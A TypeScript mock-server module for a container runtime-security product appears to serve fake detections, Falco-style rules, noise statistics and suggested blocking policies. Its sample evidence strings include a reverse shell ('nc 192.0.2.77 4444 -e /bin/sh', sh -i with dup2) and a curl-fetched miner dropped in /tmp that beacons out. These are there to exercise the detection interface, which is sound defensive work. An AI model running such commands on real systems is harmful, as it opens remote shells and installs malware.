// The mock's answers about detections: the list, one with all that hangs on it, rules, noise and what would end it.
import { attackTechnique } from "../../src/model/attack-techniques.ts";
import { SecurityEvent } from "../../src/model/security-event.ts";
import type { DetectionCard } from "../../src/apps/server/contract/runtime.ts";
import { refuseBySentinel, spanOf, windowOf, type Asked } from "./asked.ts";
import { cardsOf, treeOf } from "./detections-world.ts";
import { matcherOf, sentinelOf } from "./filter.ts";
import { keptOf } from "./kept-resources.ts";
import { Refusal } from "./refusal.ts";

const iso = (ms: number): string => new Date(ms).toISOString();
const dayMs = 86_400_000;

const cover = {
  nodes: 5,
  nodesDetecting: 3,
  notDetecting: ["worker-3: its agent tells nothing of detection", "demo-a: it is stale"],
  rules: 128,
  rulesBlind: 4,
  rulesRefused: 1,
  suppressed: 12,
  unjudged: 0,
};
const nobody = { ...cover, nodesDetecting: 0, rules: 0, rulesBlind: 0, rulesRefused: 0, suppressed: 0 };
const everybody = { ...cover, nodes: 3, notDetecting: [], rulesRefused: 0, suppressed: 0 };

function withMark(card: DetectionCard): DetectionCard {
  const mark = keptOf("DetectionMark", `cluster/${card.cluster}`, card.id);
  if (mark === undefined) return card;
  const { verdict, reason } = mark.spec as { verdict: "real" | "noise" | "handled"; reason: string };
  return { ...card, mark: { verdict, reason, by: mark.author, at: mark.time } };
}

function listDetections(asked: Asked) {
  const q = asked.query["q"] ?? "";
  const sentinel = asked.sentinel || sentinelOf(q);
  refuseBySentinel(sentinel);
  const { since, until } = spanOf(asked);
  const matches = matcherOf(q);
  const isEmpty = ["empty", "blind", "calm"].includes(sentinel);
  const rows = isEmpty
    ? []
    : cardsOf(asked.nowMs)
        .filter(({ lastAt }) => Date.parse(lastAt) >= since && Date.parse(lastAt) <= until)
        .filter((card) => matches(card))
        .map(withMark);
  const totals = { critical: 0, high: 0, medium: 0, low: 0, info: 0 };
  for (const { severity } of rows) totals[severity] += 1;
  return {
    rows,
    totals,
    cover: sentinel === "blind" ? nobody : sentinel === "calm" ? everybody : cover,
    window: windowOf(asked),
  };
}

function cardAsked({ params, nowMs }: Asked): DetectionCard {
  const hash = (params["id"] ?? "").split("-")[1];
  const card = cardsOf(nowMs).find(({ id }) => id.endsWith(`-${hash}`));
  if (card !== undefined) return withMark({ ...card, id: params["id"] ?? card.id });
  throw new Refusal(`no detection ${params["id"]} is kept`, {
    code: "runtime/unknown-detection",
    kind: "not-found",
    hint: "It may be older than what is kept.",
  });
}

const evidenceBySeverity = (card: DetectionCard): readonly (readonly [string, string])[] => {
  if (card.severity === "critical")
    return [
      ["exec", "node server.js started /bin/dash as sh -i (pid 4004, uid 33)"],
      ["connect", "10.42.0.10:41822 -> 192.0.2.77:4444 tcp"],
      ["dup2", "descriptor 0 of sh becomes 192.0.2.77:4444"],
      ["exec", "sh started /usr/bin/nc 192.0.2.77 4444 -e /bin/sh: killed"],
    ];
  if (card.process === "kworkerd")
    return [
      ["1 download", "curl -fsS http://packages.example/update.sh"],
      ["2 chmod", "fchmodat /tmp/.cache/kworkerd 0755"],
      ["3 exec", "/tmp/.cache/kworkerd --pool pool.example --quiet"],
      ["4 beacon", "connect 192.0.2.77:4444 tcp, every 30 s"],
    ];
  return [["open", card.message]];
};

function controlsOf(card: DetectionCard) {
  const scope = `cluster/${card.cluster}`;
  if (card.source === "falco") return [];
  if (card.severity !== "critical" && card.process !== "kworkerd")
    return [
      {
        kind: "seccomp" as const,
        title: "Leave io_uring_setup out of the workload's seccomp profile",
        because: "it called io_uring_setup",
        cost: "Written from what was learnt: `garrison profile seccomp` names what would be refused.",
        resource: "" as const,
        scope: "",
        name: "",
        manifest: "",
      },
    ];
  const spec = {
    target: { namespace: card.namespace, workload: card.workload },
    mode: "dry-run",
    network: [
      {
        operation: "connect",
        protocol: "tcp",
        address: "192.0.2.77/32",
        port: 4444,
        fromSource: [card.executable],
        action: "Block",
      },
    ],
  };
  return [
    {
      kind: "deny-connect" as const,
      title: `Deny connections of ${card.executable} to 192.0.2.77:4444`,
      because: "it connected there, which the rule calls hostile",
      cost: "Only this program and this address.",
      resource: "RuntimePolicy" as const,
      scope,
      name: `${card.workload}-no-connect`,
      spec,
      manifest: `apiVersion: garrison/v1\nkind: RuntimePolicy\nscope: ${scope}\nname: ${card.workload}-no-connect\nspec:\n  target:\n    namespace: ${card.namespace}\n    workload: ${card.workload}\n  mode: dry-run\n  network:\n    - operation: connect\n      protocol: tcp\n      address: 192.0.2.77/32\n      port: 4444\n      fromSource:\n        - ${card.executable}\n      action: Block\n`,
    },
  ];
}

function getDetection(asked: Asked) {
  refuseBySentinel(asked.sentinel);
  const card = cardAsked(asked);
  const evidence = evidenceBySeverity(card);
  const firstMs = Date.parse(card.firstAt);
  const tree = treeOf(card);
  const others = cardsOf(asked.nowMs).filter(({ id }) => !id.endsWith(card.id.split("-")[1] ?? ""));
  return {
    detection: card,
    techniques: card.techniques.map((id) => ({
      id,
      name: attackTechnique(id)?.name ?? "",
      tactics: [...(attackTechnique(id)?.tactics ?? [])],
    })),
    evidence: evidence.map(([kind, text], index) => ({ at: iso(firstMs + index * 420), kind, text })),
    evidenceOmitted: 0,
    events: [
      SecurityEvent.parse({
        time: card.lastAt,
        cluster: card.cluster,
        node: card.node,
        severity: card.severity,
        source: card.source,
        rule: card.rule,
        title: card.title,
        message: card.message,
        action: card.action,
        outputFields: [
          `proc.name=${card.process}`,
          `proc.exepath=${card.executable}`,
          "fd.name=10.42.0.10:41822->192.0.2.77:4444",
          "user.uid=33",
        ],
        process: card.process,
        count: card.count,
      }),
    ],
    eventsOmitted: 0,
    tree,
    treeOmitted: 0,
    treeBecause: tree.length === 0 ? "falco told no process id" : "",
    controls: controlsOf(card),
    rule: rulesOf(asked.nowMs).find(({ name }) => name === card.rule) ?? rulesOf(asked.nowMs)[0],
    related:
      card.severity === "critical"
        ? others.slice(0, 2).map((each) => ({
            ...each,
            cluster: card.cluster,
            namespace: card.namespace,
            workload: card.workload,
            workloadKind: card.workloadKind,
          }))
        : [],
    relatedOmitted: 0,
    window: windowOf(asked),
  };
}

function rulesOf(nowMs: number) {
  const spoken = cardsOf(nowMs).map((card) => ({
    name: card.rule,
    from: card.source === "falco" ? "falco" : "built-in",
    format: card.source === "falco" ? ("" as const) : ("falco" as const),
    severity: card.severity,
    description:
      card.source === "falco"
        ? ""
        : "What it means, and what to look at: the address, and what the process executes next.",
    text:
      card.source === "falco"
        ? ""
        : `- rule: ${card.rule}\n  condition: evt.type in (dup, dup2, dup3) and container and fd.type in (ipv4, ipv6)\n  output: A connection (connection=%fd.name program=%proc.name)\n  priority: ${card.severity}`,
    techniques: card.techniques,
    tags: card.tags,
    state: card.source === "falco" ? ("unknown" as const) : ("loaded" as const),
    because: card.source === "falco" ? "the rule is of a foreign sensor, which tells nothing of its rules" : "",
    nodes: [],
    detections: card.count,
    lastAt: card.lastAt,
  }));
  const silent = [
    ["BPF program is loaded", "built-in", "blind", "event type bpf does not arrive here", "high"],
    ["Environment holds a preload", "folder", "blind", "no sensor here supplies proc.env", "medium"],
    [
      "Own: curl in payments",
      "resource cluster/local/payments",
      "refused",
      "payments:12: no field is called proc.nmae (did you mean proc.name?)",
      "medium",
    ],
    ["Packet socket is opened", "built-in", "loaded", "", "medium"],
    ["Interpreted script from /tmp", "built-in", "disabled", "it is written with `enabled: false`", "low"],
  ] as const;
  return [
    ...spoken,
    ...silent.map(([name, from, state, because, severity]) => ({
      name,
      from,
      format: "falco" as const,
      severity,
      description: "",
      text: `- rule: ${name}\n  condition: evt.type = bpf and container\n  priority: ${severity}`,
      techniques: ["T1611"],
      tags: ["container"],
      state,
      because,
      nodes: state === "blind" || state === "refused" ? [{ cluster: "local", node: "worker-1", state, because }] : [],
      detections: 0,
    })),
  ];
}

function listRuntimeRules(asked: Asked) {
  refuseBySentinel(asked.sentinel);
  const isEmpty = asked.sentinel === "empty";
  const isBlind = asked.sentinel === "blind";
  const node = (name: string, over: object = {}) => ({
    cluster: "local",
    node: name,
    isConnected: true,
    enabled: true,
    because: "",
    loaded: 128,
    blind: 4,
    refused: 1,
    suppressed: 4,
    unjudged: 0,
    problems: ["payments:12: no field is called proc.nmae (did you mean proc.name?)"],
    ...over,
  });
  // Where no agent is connected nobody says what became of a rule.
  const unknown = { state: "unknown", because: "", nodes: [] } as const;
  const rules = rulesOf(asked.nowMs).map((rule) => (isBlind ? { ...rule, ...unknown } : rule));
  return {
    rules: isEmpty ? [] : rules,
    rulesOmitted: 0,
    nodes:
      isEmpty || isBlind
        ? []
        : [
            node("worker-1"),
            node("worker-2"),
            node("worker-3", {
              enabled: false,
              because: "its agent tells nothing of detection",
              loaded: 0,
              blind: 0,
              refused: 0,
              problems: [],
            }),
          ],
    window: windowOf(asked),
  };
}

function noiseClusters(sentinel: string, days: readonly number[]) {
  const perDay = days.map((_, day) => 52 + day * 3);
  const local = { cluster: "local", perDay, last24h: 76, budget: 48, pods: 24, cover };
  const none = days.map(() => 0);
  const edge = { ...nobody, nodes: 1, notDetecting: ["edge-1: no rule is loaded"] };
  const silent = { cluster: "edge", perDay: none, last24h: 0, budget: 20, cover: edge };
  if (sentinel === "empty") return [];
  return sentinel === "blind" ? [{ ...local, perDay: none, last24h: 0, cover: nobody }, silent] : [local, silent];
}

function noiseBoard(asked: Asked) {
  const q = asked.query["q"] ?? "";
  refuseBySentinel(sentinelOf(q) || asked.sentinel);
  const count = Number(asked.query["days"] ?? 7);
  const today = Math.floor(asked.nowMs / dayMs) * dayMs;
  const days = Array.from({ length: count }, (_, index) => today - (count - 1 - index) * dayMs);
  const matches = matcherOf(q);
  const sentinel = asked.sentinel || sentinelOf(q);
  const isEmpty = ["empty", "blind"].includes(sentinel);
  const board = sentinel === "blind" ? nobody : cover;
  const rows = isEmpty
    ? []
    : cardsOf(asked.nowMs)
        .filter((card) => matches(card))
        .map((card, index) => {
          const daily = card.severity === "low" ? 44 : card.severity === "medium" ? 9 : 0;
          const perDay = days.map((_, day) => Math.round(daily * (0.8 + ((day * 7 + index) % 5) / 8)));
          const last24h = card.severity === "low" ? 57 : card.count;
          return {
            cluster: card.cluster,
            namespace: card.namespace,
            workload: card.workload,
            workloadKind: card.workloadKind,
            rule: card.rule,
            severity: card.severity,
            count: perDay.reduce((sum, each) => sum + each, 0) + card.count,
            perDay: perDay.map((each, day) => (day === count - 1 ? card.count : each)),
            last24h,
            trend: card.severity === "low" ? ("rising" as const) : daily > 0 ? ("steady" as const) : ("new" as const),
            share: last24h / 76,
            lastAt: card.lastAt,
          };
        })
        .toSorted((one, other) => other.last24h - one.last24h);
  return {
    days: days.map(iso),
    clusters: noiseClusters(sentinel, days),
    cover: board,
    rows,
    rowsOmitted: 0,
    window: windowOf(asked),
  };
}

function noiseSuggest(asked: Asked) {
  const { rule = "", workload = "", namespace = "", cluster = "local" } = asked.query;
  const isNoise = workload === "node-exporter";
  const resource = { scope: `cluster/${cluster}`, name: `quiet-${workload}` };
  if (!isNoise)
    return {
      suggestions: [],
      kept: [{ count: 14, because: "another rule said something more severe of the same process" }],
      covers: 0,
      of: 14,
      ruleTotal: 22,
      text: "",
      resource,
      notHere: "",
      because: "every exception would hide something that must be seen",
      window: windowOf(asked),
    };
  const fields = [
    ["k8s.ns.name", "=", namespace],
    ["container.image.repository", "=", "quay.io/prometheus/node-exporter"],
    ["proc.name", "=", "node_exporter"],
    ["proc.exepath", "=", "/bin/node_exporter"],
    ["fd.name", "startswith", "/etc/"],
  ] as const;
  return {
    suggestions: [
      {
        fields: fields.map(([field, comparison, value]) => ({ field, comparison, value })),
        covers: 301,
        of: 304,
        silences: 305,
        ruleTotal: 331,
        others: [{ namespace: "monitoring", workload: "node-exporter-edge", count: 4 }],
        othersOmitted: 0,
        daysSeen: 7,
        because:
          "k8s.ns.name, container.image.repository, proc.name, proc.exepath, fd.name are the same in 301 of 304, on 7 days",
      },
    ],
    kept: [{ count: 3, because: "a person marked one of them as real" }],
    covers: 301,
    of: 304,
    ruleTotal: 331,
    text: `- rule: "${rule}"\n  exceptions:\n    - name: quiet_${namespace.replaceAll("-", "_")}_node_exporter\n      fields: [${fields.map(([field]) => field).join(", ")}]\n      comps: [${fields.map(([, comparison]) => `"${comparison}"`).join(", ")}]\n      values:\n        - [${fields.map(([, , value]) => `"${value}"`).join(", ")}]\n  override:\n    exceptions: append\n`,
    resource,
    notHere: "",
    because: "",
    window: windowOf(asked),
  };
}

export const detectionAnswers = { listDetections, getDetection, listRuntimeRules, noiseBoard, noiseSuggest };
